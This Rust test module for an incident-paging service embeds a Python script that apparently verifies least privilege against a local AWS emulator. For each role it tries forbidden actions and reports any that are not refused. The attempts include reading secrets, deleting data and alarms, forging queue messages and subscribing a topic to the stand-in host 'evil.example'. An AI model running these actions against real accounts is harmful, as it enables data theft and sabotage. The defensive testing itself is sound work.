//! With the role of a function: whoever runs code in it has its credentials.

use super::report::Report;
use crate::end_to_end::local::Local;
use serde_json::Value;

const WHO: &str = "role";

/// Takes the policies of a role for a user of its own, tries every call, and prints what AWS said to each as JSON.
const ATTEMPTS: &str = r#"
import os
iam, stack = aws('iam'), 'callout'
roles = {}
for page in iam.get_paginator('list_roles').paginate():
    for role in page['Roles']:
        for name in iam.list_role_policies(RoleName=role['RoleName'])['PolicyNames']:
            roles[name] = iam.get_role_policy(RoleName=role['RoleName'], PolicyName=name)['PolicyDocument']
def as_role(name):
    user = 'attacker-' + name
    try: iam.create_user(UserName=user)
    except iam.exceptions.EntityAlreadyExistsException: pass
    iam.put_user_policy(UserName=user, PolicyName=name, PolicyDocument=json.dumps(roles[name]))
    key = iam.create_access_key(UserName=user)['AccessKey']
    return lambda service: boto3.client(service, endpoint_url=iam.meta.endpoint_url, region_name='us-east-1',
        aws_access_key_id=key['AccessKeyId'], aws_secret_access_key=key['SecretAccessKey'])
def said(call):
    try: call()
    except Exception as refusal:
        code = getattr(refusal, 'response', {}).get('Error', {}).get('Code', type(refusal).__name__)
        return code
    return 'allowed'
root = aws('dynamodb')
incident = next(item['pk'] for page in root.get_paginator('scan').paginate(TableName=stack) for item in page['Items'] if item['pk']['S'].startswith('INC#'))
settings, state = {'pk': {'S': 'SETTINGS'}, 'sk': {'S': 'CURRENT'}}, {'pk': incident, 'sk': {'S': 'STATE'}}
forged = {**settings, 'version': {'S': 'forged'}, 'chunks': {'N': '0'}}
chunk = {'pk': {'S': 'SETTINGS#forged'}, 'sk': {'S': '0000'}, 'data': {'S': '{}'}}
addresses = {'S': 'CONTACTS#' + root.get_item(TableName=stack, Key=settings)['Item']['version']['S']}
def reads_of_addresses(table):
    return {
        'query the addresses of people': lambda: table.query(TableName=stack, KeyConditionExpression='pk = :p', ExpressionAttributeValues={':p': addresses}),
        'get an item of addresses': lambda: table.get_item(TableName=stack, Key={'pk': addresses, 'sk': {'S': '0000'}}),
    }
def writes(table):
    put = {'Put': {'TableName': stack, 'Item': forged}}
    update = {'Update': {'TableName': stack, 'Key': settings, 'UpdateExpression': 'SET version = :v', 'ExpressionAttributeValues': {':v': {'S': 'forged'}}}}
    return {
        'put SETTINGS/CURRENT': lambda: table.put_item(TableName=stack, Item=forged),
        'put a chunk of settings': lambda: table.put_item(TableName=stack, Item=chunk),
        'put addresses of people': lambda: table.put_item(TableName=stack, Item={**chunk, 'pk': addresses}),
        'write a chunk in a batch': lambda: table.batch_write_item(RequestItems={stack: [{'PutRequest': {'Item': chunk}}]}),
        'delete SETTINGS/CURRENT in a batch': lambda: table.batch_write_item(RequestItems={stack: [{'DeleteRequest': {'Key': settings}}]}),
        'put SETTINGS/CURRENT in a transaction': lambda: table.transact_write_items(TransactItems=[put]),
        'update SETTINGS/CURRENT in a transaction': lambda: table.transact_write_items(TransactItems=[update]),
        'update SETTINGS/CURRENT': lambda: table.update_item(TableName=stack, Key=settings, UpdateExpression='SET version = :v', ExpressionAttributeValues={':v': {'S': 'forged'}}),
        'delete SETTINGS/CURRENT': lambda: table.delete_item(TableName=stack, Key=settings),
        'delete an incident': lambda: table.delete_item(TableName=stack, Key=state),
        'write settings by PartiQL': lambda: table.execute_statement(Statement="INSERT INTO callout VALUE {'pk': 'SETTINGS#x', 'sk': '0'}"),
        'scan': lambda: table.scan(TableName=stack),
        'delete the table': lambda: table.delete_table(TableName=stack),
    }
def of_webhooks(clients):
    table, sns, sqs = clients('dynamodb'), clients('sns'), clients('sqs')
    topics = [one['TopicArn'] for one in aws('sns').list_topics()['Topics']]
    responder = next(arn for arn in topics if '-responder-' in arn)
    queue = lambda name: aws('sqs').get_queue_url(QueueName=stack + '-' + name)['QueueUrl']
    query = lambda pk, **more: table.query(TableName=stack, ExpressionAttributeValues={':p': pk}, **more)
    statuses = [one['Name'] for one in aws('s3').list_buckets()['Buckets'] if 'status' in one['Name']]
    return {
        'read an incident': lambda: table.get_item(TableName=stack, Key=state),
        'read an incident in a batch': lambda: table.batch_get_item(RequestItems={stack: {'Keys': [state]}}),
        'read an incident in a transaction': lambda: table.transact_get_items(TransactItems=[{'Get': {'TableName': stack, 'Key': state}}]),
        'query an incident': lambda: query(incident, KeyConditionExpression='pk = :p'),
        'query all incidents': lambda: query({'S': '2026-11'}, KeyConditionExpression='opened_month = :p', IndexName='opened'),
        'query what is open': lambda: query({'S': 'OPEN'}, KeyConditionExpression='open_shard = :p', IndexName='open'),
        'read a responder': lambda: query({'S': 'RESPONDER#ana'}, KeyConditionExpression='pk = :p'),
        'write an incident': lambda: table.put_item(TableName=stack, Item={**state, 'data': {'S': '{}'}}),
        'write an alert': lambda: table.put_item(TableName=stack, Item={'pk': {'S': 'ALERT#x'}, 'sk': {'S': 'STATE'}}),
        'write beside a heartbeat in one batch': lambda: table.batch_write_item(RequestItems={stack: [
            {'PutRequest': {'Item': {'pk': {'S': 'HEARTBEAT#x'}, 'sk': {'S': 'STATE'}}}}, {'PutRequest': {'Item': chunk}}]}),
        'read the key that signs links': lambda: clients('secretsmanager').get_secret_value(SecretId=stack + '/link-key'),
        'page somebody': lambda: sns.publish(TopicArn=responder, Message='attack'),
        'subscribe to pages': lambda: sns.subscribe(TopicArn=responder, Protocol='https', Endpoint='https://evil.example/'),
        'rewrite a topic': lambda: sns.set_topic_attributes(TopicArn=responder, AttributeName='Policy', AttributeValue='{}'),
        'delete a topic': lambda: sns.delete_topic(TopicArn=responder),
        'forge an alarm of CloudWatch': lambda: sqs.send_message(QueueUrl=queue('alerts.fifo'), MessageBody='{}', MessageGroupId='x'),
        'forge an event of AWS': lambda: sqs.send_message(QueueUrl=queue('incoming'), MessageBody='{}'),
        'forge a timer': lambda: sqs.send_message(QueueUrl=queue('timers'), MessageBody='{}'),
        'read alerts': lambda: sqs.receive_message(QueueUrl=queue('webhook-alerts.fifo')),
        'publish an incident event': lambda: sns.publish(TopicArn=next(arn for arn in topics if arn.endswith('incident-events')), Message='{}'),
        'write the status page': lambda: clients('s3').put_object(Bucket=statuses[0], Key='index.html', Body=b'attack'),
        'invoke a function': lambda: clients('lambda').invoke(FunctionName=stack + '-triage', Payload=b'{}'),
        'rewrite a function': lambda: clients('lambda').update_function_configuration(FunctionName=stack + '-triage', Timeout=1),
        'take another role': lambda: clients('sts').assume_role(RoleArn='arn:aws:iam::000000000000:role/x', RoleSessionName='attacker'),
        'make itself an operator': lambda: clients('iam').put_role_policy(RoleName='x', PolicyName='x', PolicyDocument='{}'),
        'delete an alarm': lambda: clients('cloudwatch').delete_alarms(AlarmNames=['payments-attacked']),
    }
def of_subscribe(clients):
    table, sns, sqs = clients('dynamodb'), clients('sns'), clients('sqs')
    topics = [one['TopicArn'] for one in aws('sns').list_topics()['Topics']]
    queue = aws('sqs').get_queue_url(QueueName=stack + '-deliver')['QueueUrl']
    mail = {'Simple': {'Subject': {'Data': 'x'}, 'Body': {'Text': {'Data': 'x'}}}}
    return {
        'list the subscribers': lambda: table.query(TableName=stack, IndexName='open', KeyConditionExpression='open_shard = :p', ExpressionAttributeValues={':p': {'S': 'SUBSCRIBER'}}),
        'write an incident': lambda: table.put_item(TableName=stack, Item={**state, 'data': {'S': '{}'}}),
        'read a responder': lambda: table.query(TableName=stack, KeyConditionExpression='pk = :p', ExpressionAttributeValues={':p': {'S': 'RESPONDER#ana'}}),
        'read the key that signs links': lambda: clients('secretsmanager').get_secret_value(SecretId=stack + '/link-key'),
        'send a mail': lambda: clients('sesv2').send_email(FromEmailAddress='status@callout.example', Destination={'ToAddresses': ['x@customers.example']}, Content=mail),
        'have deliver send something': lambda: sqs.send_message(QueueUrl=queue, MessageBody='{}'),
        'publish an incident event': lambda: sns.publish(TopicArn=next(arn for arn in topics if arn.endswith('incident-events')), Message='{}'),
    }
found = []
for name in sorted(roles):
    clients = as_role(name)
    attempts = writes(clients('dynamodb'))
    if name not in ('notify', 'sms-replies'): attempts.update(reads_of_addresses(clients('dynamodb')))
    if name == 'webhooks': attempts.update(of_webhooks(clients))
    if name == 'subscribe': attempts.update(of_subscribe(clients))
    found += [[name, what, said(call)] for what, call in attempts.items()]
clients = as_role('webhooks')
control = said(lambda: clients('dynamodb').get_item(TableName=stack, Key=settings))
print(json.dumps({'found': found, 'control': control, 'roles': sorted(roles)}))
"#;

/// How AWS refuses.
const REFUSALS: [&str; 3] = ["AccessDenied", "AccessDeniedException", "AuthorizationError"];

pub(super) fn attack(local: &Local, report: &mut Report) {
    let told: Value = serde_json::from_str(&local.python(ATTEMPTS)).unwrap();
    // Otherwise refusals would only say that the credentials are worth nothing.
    assert_eq!(told["control"], "allowed", "a role may do its own work: {told:#}");
    let roles = told["roles"].as_array().unwrap().len();
    assert!(roles >= 9, "found only {roles} roles");
    let found: Vec<(&str, &str, &str)> = told["found"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            let text = |nth: usize| one[nth].as_str().unwrap();
            (text(0), text(1), text(2))
        })
        .collect();
    let outcome = |(role, what, said): &(&str, &str, &str)| {
        (!REFUSALS.contains(said)).then(|| format!("{role}: {what}: {said}"))
    };
    let (public, others): (Vec<_>, Vec<_>) = found.iter().partition(|(role, ..)| *role == "webhooks");
    report.note(
        (
            WHO,
            "S8",
            "webhooks: settings, incidents, people and their addresses, keys, topics, queues, functions",
        ),
        public.into_iter().map(outcome),
    );
    report.note(
        (WHO, "S8", "every other role: settings rewritten, addresses read, anything deleted or scanned"),
        others.into_iter().map(outcome),
    );
}
